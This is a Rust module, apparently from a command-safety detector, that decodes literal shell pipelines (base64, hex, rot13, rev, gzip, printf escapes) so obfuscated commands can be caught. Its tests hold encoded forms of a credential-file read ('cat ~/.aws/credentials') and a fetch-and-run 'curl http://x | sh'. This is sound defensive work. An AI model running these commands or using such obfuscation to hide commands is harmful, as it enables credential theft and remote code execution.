//! The bounded evaluator: what a pipeline of pure commands prints, when every
//! byte of it is written in the command line.
//!
//! `echo`/`printf` (with their escapes), `cat` of a here-string or
//! here-document, `base64 -d`, `base32 -d`, `basenc -d`, `xxd -r [-p]`,
//! `openssl base64 -d`, `rev`, `tr`, `gunzip`/`zcat`, simple `sed s///` and
//! their encoding twins are run here, on literal text only, within a
//! [`Budget`] of bytes and steps. Anything else (a file, the network, a
//! variable nobody set) makes the result unknown. The walker uses this to see
//! through `$(echo Y3VybA== | base64 -d)`, `… | base64 -d | sh` and friends.

use super::{Command, RedirectKind};
use base64::Engine;
use std::io::Read;

/// What decoding may still spend on one command line.
#[derive(Debug, Clone)]
pub struct Budget {
    /// Bytes all decoded outputs together may still produce.
    pub bytes: usize,
    /// Commands the evaluator may still run.
    pub steps: usize,
}

impl Budget {
    /// The budget of one command line: 1 MiB of decoded text, 256 steps.
    pub fn new() -> Budget {
        Budget {
            bytes: 1 << 20,
            steps: 256,
        }
    }

    /// Takes `n` bytes from the budget; false when there are not that many left.
    pub fn take(&mut self, n: usize) -> bool {
        if n > self.bytes {
            self.bytes = 0;
            return false;
        }
        self.bytes -= n;
        true
    }

    fn step(&mut self) -> bool {
        if self.steps == 0 {
            return false;
        }
        self.steps -= 1;
        true
    }
}

impl Default for Budget {
    fn default() -> Self {
        Budget::new()
    }
}

/// The result of evaluating a stage.
#[derive(Debug, Clone, PartialEq)]
pub struct Output {
    pub bytes: Vec<u8>,
    /// Names of the decoding steps applied (`base64 -d`, `rev`…), in order.
    pub decoders: Vec<String>,
}

/// What `cmd` prints given `stdin` (`None`: no known input), or `None` when
/// the command is not one this evaluator runs or its input is not literal.
pub fn run(cmd: &Command, stdin: Option<&[u8]>, budget: &mut Budget) -> Option<Output> {
    if !budget.step() || cmd.dynamic_name {
        return None;
    }
    let here = here_input(cmd);
    let input: Option<&[u8]> = here.as_deref().or(stdin);
    let name = cmd.name();
    let args = cmd.args();
    if cmd.unresolved || args.iter().any(|a| a.contains("$(…)")) {
        return None;
    }
    let plain = |bytes: Vec<u8>| Output {
        bytes,
        decoders: Vec::new(),
    };
    let decoded = |bytes: Vec<u8>, how: &str| Output {
        bytes,
        decoders: vec![how.to_string()],
    };
    // escapes that turned into other characters are an encoding too
    let escaped = |out: &[u8]| {
        let joined = args.join(" ");
        let hidden = ["\\x", "\\0", "\\u", "\\1", "\\2", "\\3"]
            .iter()
            .any(|e| joined.contains(e));
        hidden && !out.is_empty()
    };
    let out = match name.as_str() {
        "echo" => {
            let b = echo(args);
            if escaped(&b)
                && args
                    .iter()
                    .any(|a| a.starts_with("-e") || a == "-ne" || a == "-en")
            {
                decoded(b, "echo -e")
            } else {
                plain(b)
            }
        }
        "printf" => {
            let b = printf(args)?;
            if escaped(&b) {
                decoded(b, "printf")
            } else {
                plain(b)
            }
        }
        "cat" => {
            if args.iter().any(|a| a != "-" && !a.starts_with('-')) {
                return None;
            }
            plain(input?.to_vec())
        }
        "base64" | "base32" | "basenc" => {
            let decode = has_flag(args, &["-d", "--decode", "-D"]);
            let kind = if name == "basenc" {
                basenc_kind(args)?
            } else {
                name.as_str()
            };
            let data = match file_arg(args) {
                Some(_) => return None,
                None => input?,
            };
            if decode {
                decoded(decode_kind(kind, data)?, &format!("{name} -d"))
            } else {
                plain(encode_kind(kind, data)?)
            }
        }
        "xxd" => {
            let data = input?;
            if file_arg(args).is_some() {
                return None;
            }
            if has_flag(args, &["-r", "-revert"]) {
                let plain_hex = has_flag(args, &["-p", "-ps", "-plain", "-postscript"]);
                let out = if plain_hex {
                    hex_plain(data)?
                } else {
                    hex_dump_reverse(data)?
                };
                decoded(out, "xxd -r")
            } else if has_flag(args, &["-p", "-ps", "-plain"]) {
                plain(hex::encode(data).into_bytes())
            } else {
                return None;
            }
        }
        "openssl" => {
            let sub = args.first().map(String::as_str).unwrap_or("");
            let b64 = sub == "base64"
                || (sub == "enc"
                    && (has_flag(args, &["-base64", "-a", "-A"]))
                    && !args.iter().any(|a| {
                        a.starts_with("-aes")
                            || a.starts_with("-des")
                            || a.starts_with("-k")
                            || a.starts_with("-pass")
                    }));
            if !b64 || !has_flag(args, &["-d"]) || args.iter().any(|a| a == "-in") {
                return None;
            }
            decoded(decode_kind("base64", input?)?, "openssl base64 -d")
        }
        "rev" => {
            if file_arg(args).is_some() {
                return None;
            }
            decoded(rev(input?), "rev")
        }
        "tr" => decoded(tr(args, input?)?, "tr"),
        "gunzip" | "zcat" | "gzip" | "zlib-flate" => {
            if name == "gzip" && !has_flag(args, &["-d", "--decompress"]) {
                return None;
            }
            if file_arg(args).is_some() && name != "zlib-flate" {
                return None;
            }
            decoded(inflate(input?, budget)?, &name)
        }
        "sed" => plain(sed(args, input?)?),
        _ => return None,
    };
    if !budget.take(out.bytes.len()) {
        return None;
    }
    Some(out)
}

/// A here-string (with its newline) or here-document given to the command.
fn here_input(cmd: &Command) -> Option<Vec<u8>> {
    let r = cmd
        .redirects
        .iter()
        .rev()
        .find(|r| matches!(r.kind, RedirectKind::HereString | RedirectKind::HereDoc))?;
    let mut v = r.target.as_bytes().to_vec();
    if r.kind == RedirectKind::HereString {
        v.push(b'\n');
    }
    Some(v)
}

fn has_flag(args: &[String], flags: &[&str]) -> bool {
    args.iter().any(|a| {
        flags.contains(&a.as_str())
            || flags.iter().any(|f| {
                f.len() == 2
                    && a.starts_with('-')
                    && !a.starts_with("--")
                    && a.len() > 2
                    && a[1..].chars().all(|c| c.is_ascii_alphanumeric())
                    && a[1..].contains(&f[1..])
            })
    })
}

/// The first argument that is not an option (or its value).
fn file_arg(args: &[String]) -> Option<&String> {
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
            continue;
        }
        if a == "-w" || a == "-i" || a == "--wrap" || a == "-c" || a == "-s" || a == "-l" {
            skip = true;
            continue;
        }
        if a == "-" || a.starts_with('-') {
            continue;
        }
        return Some(a);
    }
    None
}

fn basenc_kind(args: &[String]) -> Option<&'static str> {
    for a in args {
        match a.as_str() {
            "--base64" => return Some("base64"),
            "--base64url" => return Some("base64url"),
            "--base32" => return Some("base32"),
            "--base16" => return Some("base16"),
            _ => {}
        }
    }
    None
}

/// Decodes base64 (standard or URL-safe, padded or not), base32 or hex,
/// ignoring whitespace as the tools do.
pub fn decode_kind(kind: &str, data: &[u8]) -> Option<Vec<u8>> {
    let clean: Vec<u8> = data
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    match kind {
        "base64" | "base64url" => decode_base64(&clean),
        "base32" => decode_base32(&clean),
        "base16" => hex::decode(&clean).ok(),
        _ => None,
    }
}

/// Base64 in either alphabet, with or without padding.
pub fn decode_base64(clean: &[u8]) -> Option<Vec<u8>> {
    use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
    use base64::engine::DecodePaddingMode;
    let cfg = GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let std = GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
    let url = GeneralPurpose::new(&base64::alphabet::URL_SAFE, cfg);
    std.decode(clean).or_else(|_| url.decode(clean)).ok()
}

fn decode_base32(clean: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(clean.len() * 5 / 8);
    let mut acc: u64 = 0;
    let mut bits = 0u32;
    for &c in clean {
        if c == b'=' {
            break;
        }
        let v = match c.to_ascii_uppercase() {
            b'A'..=b'Z' => c.to_ascii_uppercase() - b'A',
            b'2'..=b'7' => c - b'2' + 26,
            _ => return None,
        };
        acc = (acc << 5) | u64::from(v);
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn encode_kind(kind: &str, data: &[u8]) -> Option<Vec<u8>> {
    match kind {
        "base64" => {
            let mut s = base64::engine::general_purpose::STANDARD.encode(data);
            s.push('\n');
            Some(s.into_bytes())
        }
        "base16" => Some(hex::encode_upper(data).into_bytes()),
        _ => None,
    }
}

fn hex_plain(data: &[u8]) -> Option<Vec<u8>> {
    let clean: Vec<u8> = data
        .iter()
        .copied()
        .filter(|b| b.is_ascii_hexdigit())
        .collect();
    let even = &clean[..clean.len() - clean.len() % 2];
    hex::decode(even).ok()
}

/// `xxd -r` of a hexdump (`00000000: 6375 726c  curl`): the hex between the
/// offset and the text column.
fn hex_dump_reverse(data: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(data).ok()?;
    let mut out = Vec::new();
    for line in text.lines() {
        let Some((_, rest)) = line.split_once(':') else {
            continue;
        };
        let hexpart = rest
            .split("  ")
            .find(|p| !p.trim().is_empty())
            .unwrap_or("");
        out.extend(hex_plain(hexpart.as_bytes())?);
    }
    Some(out)
}

fn rev(data: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(data);
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.extend(line.chars().rev());
    }
    out.into_bytes()
}

fn inflate(data: &[u8], budget: &Budget) -> Option<Vec<u8>> {
    let cap = budget.bytes as u64 + 1;
    let mut out = Vec::new();
    let gz = flate2::read::GzDecoder::new(data)
        .take(cap)
        .read_to_end(&mut out);
    if gz.is_ok() && !out.is_empty() {
        return Some(out);
    }
    out.clear();
    flate2::read::ZlibDecoder::new(data)
        .take(cap)
        .read_to_end(&mut out)
        .ok()?;
    Some(out)
}

/// `echo [-n] [-e] [-E] args…`.
fn echo(args: &[String]) -> Vec<u8> {
    let mut newline = true;
    let mut escapes = false;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| "neE".contains(c)) {
            for c in a[1..].chars() {
                match c {
                    'n' => newline = false,
                    'e' => escapes = true,
                    _ => escapes = false,
                }
            }
            i += 1;
        } else {
            break;
        }
    }
    let joined = args[i..].join(" ");
    let mut out = if escapes {
        unescape(&joined, false).0
    } else {
        joined.into_bytes()
    };
    if newline {
        out.push(b'\n');
    }
    out
}

/// `printf FORMAT [ARG]…`, the format reused while arguments remain.
fn printf(args: &[String]) -> Option<Vec<u8>> {
    let mut args = args.iter();
    let mut fmt = args.next()?.as_str();
    if fmt == "--" {
        fmt = args.next()?.as_str();
    }
    if fmt == "-v" {
        return None;
    }
    let rest: Vec<&String> = args.collect();
    let mut out = Vec::new();
    let mut next = 0usize;
    let mut rounds = 0;
    loop {
        let used = format_once(fmt, &rest, &mut next, &mut out)?;
        rounds += 1;
        if !used || next >= rest.len() || rounds > 4096 {
            break;
        }
    }
    Some(out)
}

/// One pass of a printf format; true when it consumed an argument.
fn format_once(fmt: &str, args: &[&String], next: &mut usize, out: &mut Vec<u8>) -> Option<bool> {
    let mut used = false;
    let mut chars = fmt.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match c {
            '\\' => {
                let (bytes, consumed) = unescape(&fmt[i..], true);
                out.extend(bytes);
                for _ in 1..consumed {
                    chars.next();
                }
            }
            '%' => {
                // flags, width and precision are read and ignored
                let mut conv = None;
                for (_, d) in chars.by_ref() {
                    if d.is_ascii_alphabetic() || d == '%' {
                        conv = Some(d);
                        break;
                    }
                }
                let arg = |next: &mut usize, used: &mut bool| -> String {
                    *used = true;
                    let a = args.get(*next).map(|s| s.to_string()).unwrap_or_default();
                    *next += 1;
                    a
                };
                match conv? {
                    '%' => out.push(b'%'),
                    's' => out.extend(arg(next, &mut used).into_bytes()),
                    'b' => out.extend(unescape(&arg(next, &mut used), false).0),
                    'c' => out.extend(
                        arg(next, &mut used)
                            .chars()
                            .take(1)
                            .collect::<String>()
                            .into_bytes(),
                    ),
                    'd' | 'i' | 'u' => {
                        let a = arg(next, &mut used);
                        out.extend(int_arg(&a)?.to_string().into_bytes());
                    }
                    'x' => {
                        let a = arg(next, &mut used);
                        out.extend(format!("{:x}", int_arg(&a)?).into_bytes());
                    }
                    'o' => {
                        let a = arg(next, &mut used);
                        out.extend(format!("{:o}", int_arg(&a)?).into_bytes());
                    }
                    _ => return None,
                }
            }
            c => {
                let mut b = [0u8; 4];
                out.extend(c.encode_utf8(&mut b).as_bytes());
            }
        }
    }
    Some(used)
}

/// printf's integer argument: decimal, `0x` hex, `0` octal, or `'c` (a character's code).
fn int_arg(a: &str) -> Option<i64> {
    if let Some(c) = a.strip_prefix('\'').or_else(|| a.strip_prefix('"')) {
        return c.chars().next().map(|c| c as i64);
    }
    if a.is_empty() {
        return Some(0);
    }
    if let Some(h) = a.strip_prefix("0x").or_else(|| a.strip_prefix("0X")) {
        return i64::from_str_radix(h, 16).ok();
    }
    if a.len() > 1 && a.starts_with('0') {
        return i64::from_str_radix(&a[1..], 8).ok();
    }
    a.parse().ok()
}

/// Backslash escapes of `echo -e`, `printf` and `$'…'`: returns the bytes and,
/// when `one` is set, only the first escape and how many characters it used.
pub fn unescape(s: &str, one: bool) -> (Vec<u8>, usize) {
    let chars: Vec<char> = s.chars().collect();
    let mut out: Vec<u8> = Vec::new();
    let mut i = 0;
    let push_char = |out: &mut Vec<u8>, c: char| {
        let mut b = [0u8; 4];
        out.extend(c.encode_utf8(&mut b).as_bytes());
    };
    while i < chars.len() {
        let c = chars[i];
        if c != '\\' || i + 1 >= chars.len() {
            push_char(&mut out, c);
            i += 1;
            if one {
                return (out, i);
            }
            continue;
        }
        let e = chars[i + 1];
        i += 2;
        match e {
            'n' => out.push(b'\n'),
            't' => out.push(b'\t'),
            'r' => out.push(b'\r'),
            'a' => out.push(7),
            'b' => out.push(8),
            'e' | 'E' => out.push(27),
            'f' => out.push(12),
            'v' => out.push(11),
            '\\' => out.push(b'\\'),
            '\'' => out.push(b'\''),
            '"' => out.push(b'"'),
            '?' => out.push(b'?'),
            'x' => {
                let h: String = chars[i..]
                    .iter()
                    .take(2)
                    .take_while(|c| c.is_ascii_hexdigit())
                    .collect();
                i += h.len();
                match u8::from_str_radix(&h, 16) {
                    Ok(b) => out.push(b),
                    Err(_) => out.extend(b"\\x"),
                }
            }
            'u' | 'U' => {
                let n = if e == 'u' { 4 } else { 8 };
                let h: String = chars[i..]
                    .iter()
                    .take(n)
                    .take_while(|c| c.is_ascii_hexdigit())
                    .collect();
                i += h.len();
                match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                    Some(ch) => push_char(&mut out, ch),
                    None => push_char(&mut out, e),
                }
            }
            '0'..='7' => {
                // `\0NNN` (echo) and `\NNN` (printf, $'…'): up to three octal digits after an optional 0
                let start = if e == '0' { i } else { i - 1 };
                let o: String = chars[start..]
                    .iter()
                    .take(3)
                    .take_while(|c| ('0'..='7').contains(*c))
                    .collect();
                i = start + o.len();
                let v = u32::from_str_radix(if o.is_empty() { "0" } else { &o }, 8).unwrap_or(0);
                out.push((v & 0xff) as u8);
            }
            'c' => return (out, chars.len()),
            other => {
                out.push(b'\\');
                push_char(&mut out, other);
            }
        }
        if one {
            return (out, i);
        }
    }
    (out, i)
}

/// `tr SET1 SET2`, `tr -d SET`, `tr -s`-less: ranges, escapes and the common classes.
fn tr(args: &[String], input: &[u8]) -> Option<Vec<u8>> {
    let mut delete = false;
    let mut sets: Vec<&String> = Vec::new();
    for a in args {
        match a.as_str() {
            "-d" | "--delete" => delete = true,
            s if s.starts_with('-') && s.len() > 1 => return None,
            _ => sets.push(a),
        }
    }
    let text = std::str::from_utf8(input).ok()?;
    let s1 = expand_set(sets.first()?)?;
    if delete {
        return Some(
            text.chars()
                .filter(|c| !s1.contains(c))
                .collect::<String>()
                .into_bytes(),
        );
    }
    let s2 = expand_set(sets.get(1)?)?;
    let last = *s2.last()?;
    Some(
        text.chars()
            .map(|c| match s1.iter().position(|x| *x == c) {
                Some(i) => s2.get(i).copied().unwrap_or(last),
                None => c,
            })
            .collect::<String>()
            .into_bytes(),
    )
}

fn expand_set(s: &str) -> Option<Vec<char>> {
    let s = s
        .replace("[:upper:]", "A-Z")
        .replace("[:lower:]", "a-z")
        .replace("[:digit:]", "0-9")
        .replace("[:alpha:]", "A-Za-z")
        .replace("[:alnum:]", "A-Za-z0-9")
        .replace("[:space:]", " \t\n\r");
    let raw = String::from_utf8(unescape(&s, false).0).ok()?;
    let chars: Vec<char> = raw.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i] <= chars[i + 2] {
            let (a, b) = (chars[i] as u32, chars[i + 2] as u32);
            if b - a > 1024 {
                return None;
            }
            out.extend((a..=b).filter_map(char::from_u32));
            i += 3;
        } else {
            out.push(chars[i]);
            i += 1;
        }
    }
    Some(out)
}

/// `sed 's/A/B/[g]'` with literal A and B (any delimiter); nothing else.
fn sed(args: &[String], input: &[u8]) -> Option<Vec<u8>> {
    let script = match args {
        [s] => s,
        [e, s] if e == "-e" => s,
        _ => return None,
    };
    let body = script.strip_prefix('s')?;
    let delim = body.chars().next()?;
    let parts: Vec<&str> = body[delim.len_utf8()..].split(delim).collect();
    let [from, to, flags] = parts.as_slice() else {
        return None;
    };
    let meta = |s: &str| s.chars().any(|c| ".*[]^$\\&".contains(c));
    if from.is_empty() || meta(from) || meta(to) || !flags.chars().all(|c| c == 'g') {
        return None;
    }
    let text = std::str::from_utf8(input).ok()?;
    let out = if flags.contains('g') {
        text.replace(from, to)
    } else {
        text.lines()
            .map(|l| l.replacen(from, to, 1))
            .collect::<Vec<_>>()
            .join("\n")
            + if text.ends_with('\n') { "\n" } else { "" }
    };
    Some(out.into_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::shell::{Redirect, Via};

    fn cmd(argv: &[&str]) -> Command {
        Command::new(
            argv.iter().map(|s| s.to_string()).collect(),
            Via::Direct,
            0,
            argv.join(" "),
        )
    }

    fn pipe(stages: &[Command]) -> Option<String> {
        let mut b = Budget::new();
        let mut cur: Option<Vec<u8>> = None;
        for c in stages {
            cur = Some(run(c, cur.as_deref(), &mut b)?.bytes);
        }
        cur.map(|v| String::from_utf8_lossy(&v).into_owned())
    }

    #[test]
    fn printers_and_their_escapes() {
        assert_eq!(pipe(&[cmd(&["echo", "a", "b"])]).as_deref(), Some("a b\n"));
        assert_eq!(pipe(&[cmd(&["echo", "-n", "x"])]).as_deref(), Some("x"));
        assert_eq!(
            pipe(&[cmd(&["echo", "-e", r"\x63\x75rl"])]).as_deref(),
            Some("curl\n")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\x63\x75\x72\x6c"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\143\141\164"])]).as_deref(),
            Some("cat")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%s", "cu", "rl"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%c%c", "c", "u"])]).as_deref(),
            Some("cu")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\u0063at"])]).as_deref(),
            Some("cat")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%b", r"\x63at"])]).as_deref(),
            Some("cat")
        );
    }

    #[test]
    fn decoders_run_on_literal_input_only() {
        let b64 = || cmd(&["base64", "-d"]);
        assert_eq!(
            pipe(&[cmd(&["echo", "Y2F0IH4vLmF3cy9jcmVkZW50aWFscw=="]), b64()]).as_deref(),
            Some("cat ~/.aws/credentials")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "Y3VybA"]), cmd(&["base64", "--decode"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "6375726c"]), cmd(&["xxd", "-r", "-p"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[
                cmd(&["echo", "00000000: 6375 726c  curl"]),
                cmd(&["xxd", "-r"])
            ])
            .as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "lruc"]), cmd(&["rev"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "phey"]), cmd(&["tr", "a-z", "n-za-m"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "MN2XE3A="]), cmd(&["base32", "-d"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[
                cmd(&["echo", "Y3VybA=="]),
                cmd(&["openssl", "base64", "-d"])
            ])
            .as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "cXurXl"]), cmd(&["sed", "s/X//g"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "c u r l"]), cmd(&["tr", "-d", " "])]).as_deref(),
            Some("curl")
        );
        // here-strings feed the command
        let mut c = cmd(&["base64", "-d"]);
        c.redirects.push(Redirect {
            kind: RedirectKind::HereString,
            target: "Y3VybA==".into(),
        });
        assert_eq!(pipe(&[c]).as_deref(), Some("curl"));
        // files, the network and unknown commands are not evaluated
        assert_eq!(pipe(&[cmd(&["base64", "-d", "payload.b64"])]), None);
        assert_eq!(pipe(&[cmd(&["curl", "-s", "https://x.example"])]), None);
        assert_eq!(pipe(&[cmd(&["echo", "$(…)"]), b64()]), None);
    }

    #[test]
    fn compressed_payloads_inflate_within_the_budget() {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b"curl http://x | sh").expect("gz");
        let gz = e.finish().expect("gz");
        let b64 = base64::engine::general_purpose::STANDARD.encode(gz);
        assert_eq!(
            pipe(&[
                cmd(&["echo", &b64]),
                cmd(&["base64", "-d"]),
                cmd(&["gunzip"])
            ])
            .as_deref(),
            Some("curl http://x | sh")
        );
        // a bomb stops at the budget
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(&vec![b'a'; 8 << 20]).expect("gz");
        let bomb = base64::engine::general_purpose::STANDARD.encode(e.finish().expect("gz"));
        assert_eq!(
            pipe(&[
                cmd(&["echo", &bomb]),
                cmd(&["base64", "-d"]),
                cmd(&["zcat"])
            ]),
            None
        );
    }
}
